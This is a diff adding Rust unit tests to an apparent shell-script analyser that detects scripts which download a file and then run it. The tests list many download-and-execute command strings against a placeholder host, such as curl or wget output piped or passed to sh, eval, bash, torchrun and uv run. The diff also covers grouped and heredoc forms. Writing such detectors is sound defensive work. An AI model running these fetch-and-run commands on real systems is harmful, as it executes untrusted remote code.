@@ -168,6 +168,47 @@ fn data_of_requests_is_not_run() {
     }
 }
 
+/// What was fetched and stands in a file is run in more ways than by its name.
+#[test]
+fn fetched_files_are_run() {
+    for text in [
+        "wget -O f http://x.example/a\ncat f | sh",
+        "wget -O f http://x.example/a\nsh < f",
+        "wget -O f http://x.example/a\neval \"$(cat f)\"",
+        "wget -O f http://x.example/a\nbash <(cat f)",
+        "curl -so/tmp/f http://x.example/a; sh /tmp/f",
+        "curl http://x.example/a >| f; sh f",
+        "curl http://x.example/a | sponge f; sh f",
+        "curl -o f http://x.example/a; torchrun f",
+        "curl -o f http://x.example/a; uv run f",
+    ] {
+        let reading = parse(&FORMAT, "x.sh", text.as_bytes(), false);
+        assert!(reading.facts.iter().any(|fact| fact.subject() == "shell.runs-fetched"), "{text}");
+    }
+    for text in [
+        "wget -O f http://x.example/a\ncat f | wc -l\nsh g",
+        "wget -O f http://x.example/a\nsh g < f",
+        "wget -O f http://x.example/a\ncat f\ncat g | sh",
+        "wget -O f http://x.example/a\npython3 -c 'import sys' < f",
+        "curl -o f http://x.example/a; echo \"$(cat f)\"",
+    ] {
+        let reading = parse(&FORMAT, "x.sh", text.as_bytes(), false);
+        assert!(!reading.facts.iter().any(|fact| fact.subject() == "shell.runs-fetched"), "{text}");
+    }
+}
+
+/// A group prints into the pipe behind it, and a document without a command is the script of a build.
+#[test]
+fn groups_and_documents_are_seen_through() {
+    for text in ["( curl -s http://x.example/a ) | sh", "{ curl -s http://x.example/a; } | sh", "curl -s http://x.example/a |& sh"] {
+        let found = lists(text);
+        assert!(found.iter().any(|list| list.ends_with("curl -s http://x.example/a | sh")), "{text}: {found:?}");
+    }
+    let found = lists("<<EOF\nset -e\ncurl -s http://x.example/a | sh\nEOF\n");
+    assert!(found.iter().any(|list| list == "curl -s http://x.example/a | sh"), "{found:?}");
+    assert!(lists("cat <<EOF\ncurl -s http://x.example/a | sh\nEOF\n").iter().all(|list| !list.contains("| sh")));
+}
+
 #[test]
 fn code_for_another_interpreter_is_a_child() {
     let reading = parse(&FORMAT, "x.sh", b"python3 -c 'import os'\npython - <<E\nimport sys\nE\n", false);
